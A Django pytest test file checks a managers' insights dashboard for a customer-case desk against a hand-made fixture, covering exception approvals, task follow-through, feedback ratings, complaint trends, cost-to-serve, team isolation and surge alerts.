"""Insights for managers: every figure checked against a small hand-made fixture.

The fixture (`world`) is frozen at NOW, a Thursday in March 2026 when London is on GMT (so
local time is UTC and every timestamp below reads as it is written). The period is two
whole weeks, Monday 2 March to Sunday 15 March; NOW falls inside it, so there are tasks not
yet due and feedback not yet sent. Each row is placed inside or just outside the period on
purpose; the comments next to the expectations say why a row counts or not.
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from html.parser import HTMLParser
from types import SimpleNamespace
from typing import Any
from urllib.parse import urlencode

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from cases import insights, services
from cases.models import (
    Case,
    ExceptionRequest,
    FeedbackRequest,
    FollowUpTask,
    Level,
    Reminder,
    ReminderKind,
    ReminderState,
    RequestStatus,
    Role,
    Status,
    TaskKind,
    TaskStatus,
)
from cases.views.insights import INSIGHT_TABLES, _safe_cell
from policies import services as policy_services
from policies.models import Demeanour
from tests.factories import (
    CaseFactory,
    CategoryFactory,
    CustomerFactory,
    InteractionFactory,
    UserFactory,
)

pytestmark = pytest.mark.django_db

NOW = datetime(2026, 3, 12, 12, 0, tzinfo=UTC)  # Thursday; GMT until 29 March
FIRST, LAST = date(2026, 3, 2), date(2026, 3, 15)  # Monday to Sunday, two whole weeks
PERIOD_START = datetime(2026, 3, 2, 0, 0, tzinfo=UTC)
PERIOD_END = datetime(2026, 3, 16, 0, 0, tzinfo=UTC)  # exclusive
CUSTOM = {"period": "custom", "start": "2026-03-02", "end": "2026-03-15"}
ZERO = Decimal("0")


def at(day: int, hour: int = 10, minute: int = 0, *, month: int = 3) -> datetime:
    return datetime(2026, month, day, hour, minute, tzinfo=UTC)


@pytest.fixture(autouse=True)
def frozen():
    """Every test runs at NOW unless it travels elsewhere (sign-ins included)."""
    with time_machine.travel(NOW, tick=False) as traveller:
        yield traveller


def insights_url(**params: Any) -> str:
    return f"{reverse('insights')}?{urlencode(params)}" if params else reverse("insights")


def export_url(table: str, **params: Any) -> str:
    url = reverse("insights_export", args=[table])
    return f"{url}?{urlencode(params)}" if params else url


def figures(team_ids: list[int], first: date = FIRST, last: date = LAST) -> insights.Insights:
    return insights.insights_for(insights.Period.from_dates(first, last, team_ids))


def text_of(html: str) -> str:
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", html)).strip()


class _Tables(HTMLParser):
    """The text of every cell of every `<table id="table-…">` on a page."""

    def __init__(self) -> None:
        super().__init__()
        self.tables: dict[str, list[list[str]]] = {}
        self._table: str | None = None
        self._row: list[str] | None = None
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        found = dict(attrs)
        if tag == "table" and (found.get("id") or "").startswith("table-"):
            self._table = (found["id"] or "")[len("table-") :]
            self.tables[self._table] = []
        elif self._table and tag == "tr":
            self._row = []
        elif self._row is not None and tag in {"td", "th"}:
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag == "table":
            self._table = None
        elif tag == "tr" and self._row is not None and self._table:
            self.tables[self._table].append(self._row)
            self._row = None
        elif tag in {"td", "th"} and self._cell is not None and self._row is not None:
            self._row.append(" ".join("".join(self._cell).split()))
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def page_tables(response: Any) -> dict[str, list[list[str]]]:
    """Header row first, then the body rows ("Nothing in this period." is no row)."""
    parser = _Tables()
    parser.feed(response.content.decode())
    return {
        key: [row for row in rows if row != ["Nothing in this period."]]
        for key, rows in parser.tables.items()
    }


def csv_rows(response: Any) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


# The world -------------------------------------------------------------------------------


def make_case(customer, category, created, *, team=None, demeanour=Demeanour.CALM, by):
    case = CaseFactory(
        customer=customer,
        team=team or customer.team,
        category=category,
        demeanour=demeanour,
        created_by=by,
        assignee=by if (team or customer.team).members.filter(pk=by.pk).exists() else None,
    )
    Case.objects.filter(pk=case.pk).update(created_at=created)
    case.refresh_from_db()
    return case


def resolve(case: Case, *, outcome: str, when: datetime) -> None:
    Case.objects.filter(pk=case.pk).update(
        status=Status.RESOLVED, outcome=outcome, resolution_summary="Done", resolved_at=when
    )


def ask(case, by, allowed, value, *, policy=None, when: datetime):
    # Each ask in this history is weighed alone: the earlier ones are hidden from the
    # running total while it is asked (test_discretion_totals.py is about that total).
    earlier = ExceptionRequest.objects.filter(allowed_exception=allowed) if allowed else None
    hidden = list(earlier.values_list("pk", flat=True)) if earlier is not None else []
    ExceptionRequest.objects.filter(pk__in=hidden).update(allowed_exception=None)
    try:
        request = services.request_exception(
            case,
            by=by,
            allowed=allowed,
            policy=policy,
            value=Decimal(value),
            customer_ask="Money back",
            justification="Our mistake",
        )
    finally:
        ExceptionRequest.objects.filter(pk__in=hidden).update(allowed_exception=allowed)
    ExceptionRequest.objects.filter(pk=request.pk).update(requested_at=when)
    request.refresh_from_db()
    return request


def decide(request, by, decision, *, when: datetime, counter=None):
    services.decide_exception(
        request, by=by, decision=decision, reason="Considered", counter_value=counter
    )
    ExceptionRequest.objects.filter(pk=request.pk).update(decided_at=when)


def task(case, assignee, due, *, status=TaskStatus.OPEN, completed=None):
    return FollowUpTask.objects.create(
        case=case,
        title="Call back",
        kind=TaskKind.CALL_BACK,
        assignee=assignee,
        due_at=due,
        status=status,
        completed_at=completed,
        completed_by=assignee if completed else None,
    )


_tokens = iter(range(10_000_000))


def feedback(case, sent, *, used=None, rating=None, comment=""):
    n = next(_tokens)
    return FeedbackRequest.objects.create(
        case=case,
        email="customer@example.com",
        salt=f"salt{n}",
        token_hash=f"{n:064d}",
        send_at=sent,
        expires_at=sent + timedelta(days=14),
        used_at=used,
        rating=rating,
        comment=comment,
    )


def reminder(case, due, state, **extra):
    return Reminder.objects.create(
        kind=ReminderKind.DUE_SOON,
        case=case,
        due_at=due,
        state=state,
        sent_at=due if state == ReminderState.SENT else None,
        **extra,
    )


@pytest.fixture
def returns_policy(admin_user):
    return policy_services.create_policy(
        by=admin_user,
        code="RET-60",
        title="Returns within 60 days only",
        category="returns",
        customer_wording="Returns are accepted within 60 days.",
        effective_from=date(2025, 1, 1),
        exceptions=[
            {
                "name": "Take the return as store credit",
                "kind": "store_credit",
                "max_value": Decimal("100.00"),
                "staff_limit": Decimal("10.00"),
                "manager_limit": Decimal("50.00"),
            }
        ],
    )


@pytest.fixture
def world(
    team,
    other_team,
    staff,
    colleague,
    manager,
    admin_user,
    other_team_staff,
    other_team_manager,
    customer,
    case,
    category,
    policy,
    allowed,
    returns_policy,
):
    """Downtown store (ours) and Airport kiosk (theirs, with distinctive names that must
    never leak into the Downtown manager's figures)."""
    refund = category
    late = CategoryFactory(name="Late delivery", slug="late-delivery")
    rude = CategoryFactory(name="Rude staff", slug="rude-staff")
    warranty = CategoryFactory(name="Warranty claim", slug="warranty-claim")
    ret = returns_policy.allowed_exceptions.get()

    dana = customer
    brook = CustomerFactory(name="Brook Lane", team=team, created_by=staff)
    carl = CustomerFactory(name="Carl Ore", team=team, created_by=staff)
    quinn = CustomerFactory(name="Quiet Quinn", team=team, created_by=staff)
    zed = CustomerFactory(name="Zed Kiosk", team=other_team, created_by=other_team_staff)

    a = case  # Dana, Refund dispute
    Case.objects.filter(pk=a.pk).update(created_at=at(3, 9))
    a.refresh_from_db()
    b = make_case(brook, late, at(4, 9), by=staff)
    b2 = make_case(brook, refund, at(10, 9), demeanour=Demeanour.ANGRY, by=staff)
    c = make_case(carl, rude, at(20, month=2), by=staff)  # before the period
    d = make_case(dana, refund, at(10, month=1), by=staff)  # long before the period
    e = make_case(dana, refund, at(11, 9), demeanour=Demeanour.ANGRY, by=staff)
    f = make_case(brook, rude, at(12, 11), by=staff)  # an hour before NOW
    q = make_case(quinn, late, at(5, month=2), by=staff)
    z = make_case(zed, warranty, at(5, 9), demeanour=Demeanour.ABUSIVE, by=other_team_staff)

    # Exceptions (requested_at and decided_at placed by hand; durations in the comments).
    r0 = ask(a, manager, allowed, "100.00", when=PERIOD_START - timedelta(seconds=1))
    r1 = ask(a, staff, allowed, "20.00", when=at(3, 11))  # granted at once by staff
    r2 = ask(a, staff, allowed, "80.00", when=at(4, 9))
    decide(r2, manager, "approve", when=at(4, 10))  # 1 h
    r3 = ask(a, staff, allowed, "60.00", when=at(5, 9))
    decide(r3, manager, "counter", counter=Decimal("30.00"), when=at(5, 11))  # 2 h
    r4 = ask(a, colleague, allowed, "90.00", when=at(6, 8))
    decide(r4, manager, "deny", when=at(6, 18))  # 10 h
    r5 = ask(b, colleague, ret, "5.50", when=at(4, 12))  # granted at once by colleague
    r6 = ask(b, staff, ret, "40.00", when=at(9, 9))
    decide(r6, manager, "deny", when=at(9, 13))  # 4 h
    r8 = ask(b, staff, ret, "45.00", when=at(10, 9))
    services.withdraw_exception(r8, by=staff)  # withdrawn: not a decision
    ExceptionRequest.objects.filter(pk=r8.pk).update(decided_at=at(10, 20))
    r9 = ask(b, colleague, ret, "30.00", when=at(10, 10))
    decide(r9, admin_user, "deny", when=at(10, 13))  # 3 h
    r7 = ask(f, staff, None, "15.00", when=at(12, 11))  # off-policy, still waiting
    rz = ask(z, other_team_staff, allowed, "24.00", when=at(5, 10))  # theirs

    resolve(b2, outcome="compromise", when=at(11, 9))
    resolve(c, outcome="within_policy", when=PERIOD_START - timedelta(seconds=1))
    resolve(d, outcome="policy_upheld", when=PERIOD_START)  # exactly at the start: counts
    resolve(e, outcome="within_policy", when=at(11, 15))
    resolve(z, outcome="disengaged", when=at(6, 9))

    # Interactions: minutes in the period count, the rest do not.
    InteractionFactory(case=a, author=staff, occurred_at=at(3, 9), minutes=20)
    InteractionFactory(case=e, author=staff, occurred_at=at(11, 9), minutes=10)
    InteractionFactory(case=d, author=staff, occurred_at=at(27, month=2), minutes=60)
    InteractionFactory(case=b, author=staff, occurred_at=at(4, 9), minutes=10)
    InteractionFactory(case=c, author=staff, occurred_at=at(6, 9), minutes=200)
    InteractionFactory(case=q, author=staff, occurred_at=at(5, month=2), minutes=300)
    InteractionFactory(case=z, author=other_team_staff, occurred_at=at(5, 9), minutes=500)

    # Follow-up tasks by due time.
    done, cancelled = TaskStatus.DONE, TaskStatus.CANCELLED
    task(a, staff, at(3, 10), status=done, completed=at(3, 9))  # on time
    task(a, staff, at(4, 10), status=done, completed=at(5, 10))  # late
    task(b, staff, at(5, 10), status=done, completed=at(5, 10))  # on the minute: on time
    task(b, staff, at(10, 10))  # overdue
    task(f, staff, at(14, 10))  # not yet due
    task(f, staff, NOW)  # due this very moment: not overdue yet
    task(a, staff, at(6, 10), status=cancelled, completed=at(6, 9))  # counts nowhere
    task(b, colleague, at(9, 10), status=done, completed=at(9, 11))  # late
    task(b, colleague, at(11, 10))  # overdue
    task(b, colleague, at(20, 10))  # due after the period
    task(b, colleague, at(20, month=2), status=done, completed=at(20, month=2))  # before
    task(z, other_team_staff, at(5, 10))  # theirs

    # Reminders: the services above wrote some; replace them with a known set.
    Reminder.objects.all().delete()
    reminder(a, at(3, 8), ReminderState.SENT)
    reminder(b, at(9, 8), ReminderState.SENT)
    reminder(b, at(10, 8), ReminderState.FAILED, attempts=5, last_error="550 rejected")
    reminder(f, at(14, 8), ReminderState.PENDING)
    reminder(f, at(12, 11), ReminderState.SENDING)
    reminder(a, at(5, 8), ReminderState.CANCELLED)
    reminder(d, at(27, 8, month=2), ReminderState.SENT)  # before the period
    reminder(z, at(5, 8), ReminderState.FAILED)  # theirs

    # Feedback by the time it was sent.
    feedback(a, at(3, 10), used=at(3, 12), rating=5)
    feedback(b, at(4, 10), used=at(4, 15), rating=2, comment="Kept me waiting")
    feedback(a, at(5, 10))  # asked, never answered
    feedback(b2, at(9, 10), used=at(10, 9), rating=1, comment="Nobody called back")
    feedback(d, at(10, 10), used=at(10, 18), rating=3)  # 3 is not low
    feedback(e, at(13, 10))  # to be sent after NOW: not asked yet
    feedback(c, at(26, 10, month=2), used=at(27, 10, month=2), rating=1, comment="Old")
    feedback(z, at(5, 10), used=at(5, 11), rating=1, comment="Airport rudeness")

    return SimpleNamespace(**locals())


# Expected figures for Downtown store over the period, by hand --------------------------

DIAG_TITLE = "Diagnostic fee is non-refundable"
RET_TITLE = "Returns within 60 days only"
DIAG_EXC = "Refund the fee as store credit"
RET_EXC = "Take the return as store credit"

EXPECTED_BY_POLICY = [
    # r1 20 + r2 80 + r3 30 granted, r4 denied; r0 was asked a second before the period.
    ("DIAG-FEE", DIAG_TITLE, 4, 3, 1, Decimal("130.00")),
    # r5 5.50 granted; r6 and r9 denied; r8 withdrawn.
    ("RET-60", RET_TITLE, 4, 1, 2, Decimal("5.50")),
    ("Off-policy", "Off-policy exceptions", 1, 0, 0, ZERO),  # r7, waiting
]
EXPECTED_BY_EXCEPTION = [
    (DIAG_EXC, 4, 3, 1, Decimal("130.00")),
    (RET_EXC, 4, 1, 2, Decimal("5.50")),
    ("Off-policy exception", 1, 0, 0, ZERO),
]
EXPECTED_BY_PERSON = [
    ("Mo Manager", 2, Decimal("110.00")),  # approved r2 80 and countered r3 30
    ("Sam Staff", 1, Decimal("20.00")),  # r1 within staff's own discretion
    ("Cleo Colleague", 1, Decimal("5.50")),  # r5 within her discretion
]
EXPECTED_SHARE = [
    ("Denied", 3),
    ("Granted at once (within discretion)", 2),
    ("Approved", 1),
    ("Approved at a lower value", 1),
    ("Waiting for a decision", 1),
    ("Withdrawn", 1),
]
# Decided r2 1 h, r3 2 h, r9 3 h, r6 4 h, r4 10 h: nearest rank 3 of 5 and 5 of 5.
EXPECTED_DECISION_HOURS = {"decided": 5, "median": 3.0, "p90": 10.0}
# RET-60 and DIAG-FEE both had 4 requests; RET-60 had more denied.
EXPECTED_SIGNALS = [("RET-60", RET_TITLE, 4, 2), ("DIAG-FEE", DIAG_TITLE, 4, 1)]
EXPECTED_FOLLOW_THROUGH = [
    {"person": "Cleo Colleague", "on_time": 0, "late": 1, "overdue": 1, "open": 0},
    {"person": "Sam Staff", "on_time": 2, "late": 1, "overdue": 1, "open": 2},
]
EXPECTED_REMINDERS = {"sent": 2, "failed": 1, "waiting": 2}
EXPECTED_SATISFACTION = [
    # F1 5, F2 2, F3 unanswered.
    {"week": "2026-03-02", "asked": 3, "answered": 2, "response_rate": 67, "average": 3.5},
    # F4 1, F5 3; F6 is not sent until tomorrow.
    {"week": "2026-03-09", "asked": 2, "answered": 2, "response_rate": 100, "average": 2.0},
]
EXPECTED_COMPLAINTS_WEEKLY = [
    {"week": "2026-03-02", "category": "Late delivery", "cases": 1},  # b
    {"week": "2026-03-02", "category": "Refund dispute", "cases": 1},  # a
    {"week": "2026-03-09", "category": "Refund dispute", "cases": 2},  # b2, e
    {"week": "2026-03-09", "category": "Rude staff", "cases": 1},  # f
]
EXPECTED_TOP = [
    {"category": "Refund dispute", "cases": 3},
    {"category": "Late delivery", "cases": 1},
    {"category": "Rude staff", "cases": 1},
]


def expected_low_ratings(w) -> list[dict[str, Any]]:
    return [
        {
            "reference": w.b.reference,
            "rating": 2,
            "comment": "Kept me waiting",
            "answered": "2026-03-04",
        },
        {
            "reference": w.b2.reference,
            "rating": 1,
            "comment": "Nobody called back",
            "answered": "2026-03-10",
        },
    ]


def expected_cost(w) -> list[dict[str, Any]]:
    """30.00 an hour is 0.50 a minute."""
    return [
        {  # 20 + 10 minutes (not the 60 in February); 130.00 granted (not r0)
            "id": w.dana.pk,
            "customer": "Dana Whitfield",
            "cases": 2,  # a and e; d was opened in January
            "minutes": 30,
            "time_cost": Decimal("15.00"),
            "granted": Decimal("130.00"),
            "total": Decimal("145.00"),
        },
        {  # 200 minutes on an old case: counts; no case opened in the period
            "id": w.carl.pk,
            "customer": "Carl Ore",
            "cases": 0,
            "minutes": 200,
            "time_cost": Decimal("100.00"),
            "granted": Decimal("0.00"),
            "total": Decimal("100.00"),
        },
        {
            "id": w.brook.pk,
            "customer": "Brook Lane",
            "cases": 3,  # b, b2, f
            "minutes": 10,
            "time_cost": Decimal("5.00"),
            "granted": Decimal("5.50"),
            "total": Decimal("10.50"),
        },
    ]


def outcome_row(label: str, **counts: int) -> dict[str, Any]:
    from cases.models import Outcome

    return {"demeanour": label, **dict.fromkeys(Outcome.values, 0), **counts}


EXPECTED_DEMEANOUR = [
    outcome_row("Calm", policy_upheld=1),  # d, resolved exactly at the start
    outcome_row("Angry", compromise=1, within_policy=1),  # b2, e
]


def as_tuples(rows, keys):
    return [tuple(row[k] for k in keys) for row in rows]


# Figures ---------------------------------------------------------------------------------


def test_exceptions_by_policy_count_requested_granted_denied_and_exact_value(world, team):
    data = figures([team.pk])
    keys = ("policy", "title", "requested", "granted", "denied", "value")
    assert as_tuples(data.exceptions_by_policy, keys) == EXPECTED_BY_POLICY
    for row in data.exceptions_by_policy:
        assert isinstance(row["value"], Decimal)


def test_exceptions_by_allowed_exception(world, team):
    data = figures([team.pk])
    keys = ("exception_name", "requested", "granted", "denied", "value")
    assert as_tuples(data.exceptions_by_exception, keys) == EXPECTED_BY_EXCEPTION


def test_granted_at_once_counts_for_the_requester_and_decisions_for_the_decider(world, team):
    data = figures([team.pk])
    assert as_tuples(data.exceptions_by_person, ("person", "granted", "value")) == (
        EXPECTED_BY_PERSON
    )
    assert all(isinstance(row["value"], Decimal) for row in data.exceptions_by_person)
    # The admin only denied (r9): a denial grants nothing, so she is not listed.
    assert "Ada Admin" not in [row["person"] for row in data.exceptions_by_person]


def test_share_of_requests_by_how_they_ended(world, team):
    data = figures([team.pk])
    assert as_tuples(data.exception_share, ("status", "count")) == EXPECTED_SHARE


def test_decision_time_median_and_90th_percentile_ignore_withdrawn_and_pending(world, team):
    assert figures([team.pk]).decision_hours == EXPECTED_DECISION_HOURS


@pytest.mark.parametrize(
    ("hours", "median", "p90"),
    [
        ([1, 2, 10], 2.0, 10.0),
        ([10, 1, 4, 2], 2.0, 10.0),  # even count: the lower middle, by nearest rank
        ([1.5, 0.5], 0.5, 1.5),
        (list(range(1, 11)), 5.0, 9.0),  # ranks 5 and 9 of 10
        (list(range(1, 71)), 35.0, 63.0),  # ranks 35 and 63 of 70
    ],
    ids=["three", "four-unsorted", "fractions", "ten", "seventy"],
)
def test_decision_time_percentiles_by_nearest_rank(
    case, staff, manager, team, allowed, hours, median, p90
):
    for index, span in enumerate(hours):
        request = ExceptionRequest.objects.create(
            case=case,
            exception_name="Refund",
            kind="refund",
            value=Decimal("80.00"),
            customer_ask="x",
            justification="y",
            required_level=Level.MANAGER,
            requested_by=staff,
            status=RequestStatus.DENIED,
            decided_by=manager,
            decided_at=NOW,
            decision_reason="No",
        )
        asked = at(3) + timedelta(minutes=index)
        ExceptionRequest.objects.filter(pk=request.pk).update(
            requested_at=asked, decided_at=asked + timedelta(hours=span)
        )
    assert figures([team.pk]).decision_hours == {
        "decided": len(hours),
        "median": median,
        "p90": p90,
    }


def test_decision_time_is_empty_without_decisions(case, team):
    assert figures([team.pk]).decision_hours == {"decided": 0, "median": None, "p90": None}


def test_follow_through_by_person_on_time_late_overdue_and_not_yet_due(world, team):
    assert figures([team.pk]).follow_through == EXPECTED_FOLLOW_THROUGH


def test_reminders_sent_failed_and_waiting_in_the_period(world, team):
    assert figures([team.pk]).reminders == EXPECTED_REMINDERS


def test_satisfaction_by_week_with_response_rate_and_average(world, team):
    assert figures([team.pk]).satisfaction == EXPECTED_SATISFACTION


def test_low_ratings_are_two_or_less_with_their_case(world, team):
    assert figures([team.pk]).low_ratings == expected_low_ratings(world)


def test_complaints_by_category_and_week_and_top_categories(world, team):
    data = figures([team.pk])
    assert data.complaints_weekly == EXPECTED_COMPLAINTS_WEEKLY
    assert data.top_categories == EXPECTED_TOP


@pytest.mark.parametrize("lookup_teams", [3, 0], ids=["case lookups", "one join"])
def test_cost_to_serve_is_minutes_at_the_hourly_cost_plus_value_granted(
    world, team, monkeypatch, lookup_teams
):
    """The same figures whichever way the minutes find their customer (a few teams look
    each case up, many teams join: cases/insights/cost.py)."""
    from cases.insights import cost

    monkeypatch.setattr(cost, "LOOKUP_TEAMS", lookup_teams)
    assert figures([team.pk]).cost_to_serve == expected_cost(world)


def test_cost_to_serve_reads_the_hourly_cost_setting(world, team, settings):
    settings.CASEDESK_HOURLY_COST = "45.00"  # 0.75 a minute
    rows = {r["customer"]: r for r in figures([team.pk]).cost_to_serve}
    assert (rows["Dana Whitfield"]["time_cost"], rows["Dana Whitfield"]["total"]) == (
        Decimal("22.50"),
        Decimal("152.50"),
    )
    assert (rows["Carl Ore"]["time_cost"], rows["Carl Ore"]["total"]) == (
        Decimal("150.00"),
        Decimal("150.00"),
    )


def test_cost_to_serve_orders_by_the_exact_total_when_the_hourly_cost_is_not_a_round_rate(
    team, staff, admin_user, category, settings
):
    """25.00 an hour is 0.41666… a minute: 600 minutes cost exactly 250.00. Rounding the
    per-minute rate to 0.42 in SQL would make it 252.00 and put it above 251.00."""
    settings.CASEDESK_HOURLY_COST = "25.00"
    talker = CustomerFactory(name="Tess Talker", team=team, created_by=staff)
    granted = CustomerFactory(name="Greg Granted", team=team, created_by=staff)
    talk = make_case(talker, category, at(3), by=staff)
    InteractionFactory(case=talk, author=staff, occurred_at=at(3), minutes=600)
    given = make_case(granted, category, at(3), by=staff)
    ask(given, admin_user, None, "251.00", when=at(3))  # an admin grants off-policy at once
    rows = figures([team.pk]).cost_to_serve
    assert [(r["customer"], r["total"]) for r in rows] == [
        ("Greg Granted", Decimal("251.00")),
        ("Tess Talker", Decimal("250.00")),
    ]


def test_demeanour_by_outcome_for_cases_resolved_in_the_period(world, team):
    assert figures([team.pk]).demeanour_outcomes == EXPECTED_DEMEANOUR


def test_policy_review_signals_order_by_requested_then_denied(world, team):
    data = figures([team.pk])
    keys = ("policy", "title", "requested", "denied")
    assert as_tuples(data.policy_signals, keys) == EXPECTED_SIGNALS


def test_policy_review_signals_put_the_most_requested_first_whatever_the_denials(
    case, staff, manager, team, allowed, returns_policy
):
    ret = returns_policy.allowed_exceptions.get()
    for _ in range(3):
        ask(case, staff, allowed, "5.00", when=at(3))  # 3 asked, none denied
    for _ in range(2):
        decide(ask(case, staff, ret, "20.00", when=at(3)), manager, "deny", when=at(4))
    data = figures([team.pk])
    assert as_tuples(data.policy_signals, ("policy", "requested", "denied")) == [
        ("DIAG-FEE", 3, 0),
        ("RET-60", 2, 2),
    ]


def test_another_teams_figures_are_theirs_alone(world, other_team):
    data = figures([other_team.pk])
    assert as_tuples(data.exceptions_by_person, ("person", "granted", "value")) == [
        ("Otto Side", 1, Decimal("24.00"))
    ]
    assert data.top_categories == [{"category": "Warranty claim", "cases": 1}]
    assert [r["customer"] for r in data.cost_to_serve] == ["Zed Kiosk"]
    assert data.reminders == {"sent": 0, "failed": 1, "waiting": 0}
    assert [r["comment"] for r in data.low_ratings] == ["Airport rudeness"]
    assert data.demeanour_outcomes == [outcome_row("Abusive", disengaged=1)]


@pytest.mark.parametrize(
    ("answered", "rate"),
    [(1, 13), (3, 38), (5, 63)],
    ids=["12.5%", "37.5%", "62.5%"],
)
def test_response_rate_rounds_half_up_like_the_rest_of_the_page(case, team, answered, rate):
    """8 asked: 1 answered is 12.5 %, shown as 13 % (as surges round their averages)."""
    for n in range(8):
        if n < answered:
            feedback(case, at(3), used=at(3, 12), rating=4)
        else:
            feedback(case, at(3))
    [week] = figures([team.pk]).satisfaction
    assert (week["asked"], week["answered"], week["response_rate"]) == (8, answered, rate)


def test_average_rating_rounds_half_up(case, team):
    """Ratings 1, 2, 2, 2, 2, 2, 3, 3 average exactly 2.125: shown as 2.13."""
    for rating in (1, 2, 2, 2, 2, 2, 3, 3):
        feedback(case, at(3), used=at(3, 12), rating=rating)
    [week] = figures([team.pk]).satisfaction
    assert week["average"] == 2.13


def test_periods_are_whole_local_days_and_weeks_in_summer_time(team, staff, customer, category):
    """London is on BST from 29 March 2026: local midnight is 23:00 UTC the day before."""
    for when in (
        datetime(2026, 3, 29, 22, 59, tzinfo=UTC),  # Sun 23:59 BST: before the period
        datetime(2026, 3, 29, 23, 0, tzinfo=UTC),  # Mon 30 March 00:00 BST
        datetime(2026, 4, 5, 22, 59, tzinfo=UTC),  # Sun 5 April 23:59 BST
        datetime(2026, 4, 5, 23, 0, tzinfo=UTC),  # Mon 6 April 00:00 BST: the next week
        datetime(2026, 4, 12, 23, 0, tzinfo=UTC),  # Mon 13 April 00:00 BST: after
    ):
        make_case(customer, category, when, by=staff)
    data = figures([team.pk], date(2026, 3, 30), date(2026, 4, 12))
    assert data.period.days == 14
    assert data.complaints_weekly == [
        {"week": "2026-03-30", "category": "Refund dispute", "cases": 2},
        {"week": "2026-04-06", "category": "Refund dispute", "cases": 1},
    ]
    assert data.top_categories == [{"category": "Refund dispute", "cases": 3}]


def test_a_manager_without_teams_sees_empty_figures(world, signed_in):
    lonely = UserFactory(username="lonely", first_name="Lou", role=Role.MANAGER)
    response = signed_in(lonely).get(insights_url(**CUSTOM))
    assert response.status_code == 200
    data = response.context["data"]
    assert data.period.team_ids == ()
    assert data.cost_to_serve == data.top_categories == data.exceptions_by_policy == []
    assert "Dana Whitfield" not in response.content.decode()


# Surge alert -----------------------------------------------------------------------------

WEEK_AGO = NOW - timedelta(days=7)
TRAILING_START = WEEK_AGO - timedelta(weeks=8)  # nine weeks before NOW


def cases_at(team, category, when: datetime, n: int, *, by) -> None:
    customer = CustomerFactory(team=team, created_by=by)
    for _ in range(n):
        made = CaseFactory(team=team, customer=customer, category=category, created_by=by)
        Case.objects.filter(pk=made.pk).update(created_at=when)


def trailing(team, category, per_week: int, *, by) -> None:
    """`per_week` cases in each of the eight weeks before the last seven days."""
    for week in range(8):
        cases_at(team, category, WEEK_AGO - timedelta(weeks=week, days=3), per_week, by=by)


def this_week(team, category, n: int, *, by) -> None:
    cases_at(team, category, NOW - timedelta(days=2), n, by=by)


def test_exactly_twice_the_trailing_average_is_not_a_surge(team, staff, category):
    trailing(team, category, 3, by=staff)  # 24 cases: 3.0 a week
    this_week(team, category, 6, by=staff)
    assert insights.surges([team.pk], now=NOW) == []


def test_just_above_twice_the_trailing_average_is_a_surge(team, staff, category):
    trailing(team, category, 3, by=staff)
    this_week(team, category, 7, by=staff)
    assert insights.surges([team.pk], now=NOW) == [
        {"category": "Refund dispute", "this_week": 7, "weekly_average": Decimal("3.0")}
    ]


def test_fewer_than_the_minimum_is_never_a_surge_even_with_no_history(team, staff, category):
    this_week(team, category, 4, by=staff)
    assert insights.surges([team.pk], now=NOW) == []


def test_the_minimum_with_no_history_is_a_surge(team, staff, category):
    this_week(team, category, 5, by=staff)
    assert insights.surges([team.pk], now=NOW) == [
        {"category": "Refund dispute", "this_week": 5, "weekly_average": Decimal("0.0")}
    ]


def test_surge_reads_the_factor_and_minimum_settings(team, staff, category, settings):
    settings.CASEDESK_SURGE_FACTOR = 3
    settings.CASEDESK_SURGE_MIN_CASES = 3
    trailing(team, category, 1, by=staff)  # 1.0 a week: the bar is above 3
    this_week(team, category, 3, by=staff)
    assert insights.surges([team.pk], now=NOW) == []
    this_week(team, category, 1, by=staff)
    assert [s["this_week"] for s in insights.surges([team.pk], now=NOW)] == [4]


def test_cases_older_than_nine_weeks_do_not_count_towards_the_average(team, staff, category):
    trailing(team, category, 2, by=staff)  # 16 cases: 2.0 a week, the bar is 4
    cases_at(team, category, TRAILING_START - timedelta(seconds=1), 40, by=staff)
    this_week(team, category, 5, by=staff)
    assert insights.surges([team.pk], now=NOW) == [
        {"category": "Refund dispute", "this_week": 5, "weekly_average": Decimal("2.0")}
    ]


def test_a_case_exactly_nine_weeks_old_counts_towards_the_average(team, staff, category):
    trailing(team, category, 2, by=staff)  # 16
    cases_at(team, category, TRAILING_START, 4, by=staff)  # 20: 2.5 a week, the bar is 5
    this_week(team, category, 5, by=staff)
    assert insights.surges([team.pk], now=NOW) == []


def test_a_case_exactly_seven_days_old_is_this_weeks(team, staff, category):
    this_week(team, category, 4, by=staff)
    cases_at(team, category, WEEK_AGO, 1, by=staff)  # this week: 5
    cases_at(team, category, WEEK_AGO - timedelta(seconds=1), 1, by=staff)  # 0.125 a week
    assert insights.surges([team.pk], now=NOW) == [
        {"category": "Refund dispute", "this_week": 5, "weekly_average": Decimal("0.1")}
    ]


def test_another_teams_cases_do_not_count_for_my_team(
    team, other_team, staff, other_team_staff, category
):
    this_week(team, category, 4, by=staff)
    this_week(other_team, category, 3, by=other_team_staff)
    assert insights.surges([team.pk], now=NOW) == []
    assert [s["this_week"] for s in insights.surges([team.pk, other_team.pk], now=NOW)] == [7]


def test_another_teams_history_does_not_hide_my_surge(
    team, other_team, staff, other_team_staff, category
):
    trailing(other_team, category, 5, by=other_team_staff)
    this_week(team, category, 6, by=staff)
    assert insights.surges([team.pk], now=NOW) == [
        {"category": "Refund dispute", "this_week": 6, "weekly_average": Decimal("0.0")}
    ]


def test_only_the_category_that_surges_is_reported(team, staff, category):
    calm = CategoryFactory(name="Billing", slug="billing")
    trailing(team, calm, 3, by=staff)
    this_week(team, calm, 6, by=staff)
    this_week(team, category, 5, by=staff)
    assert [s["category"] for s in insights.surges([team.pk], now=NOW)] == ["Refund dispute"]


def test_managers_home_shows_the_surge_alert_and_staff_home_does_not(
    signed_in, team, staff, manager, category
):
    trailing(team, category, 1, by=staff)
    this_week(team, category, 6, by=staff)
    html = signed_in(manager).get(reverse("home")).content.decode()
    alert = re.search(r'<div[^>]*id="surge-alert".*?</div>', html, re.S)
    assert alert, "the manager's home has no surge alert"
    assert "Refund dispute — 6 cases in the last 7 days against a usual 1.0 a week" in text_of(
        alert.group(0)
    )
    assert 'href="/insights/"' in alert.group(0)
    assert 'id="surge-alert"' not in signed_in(staff).get(reverse("home")).content.decode()


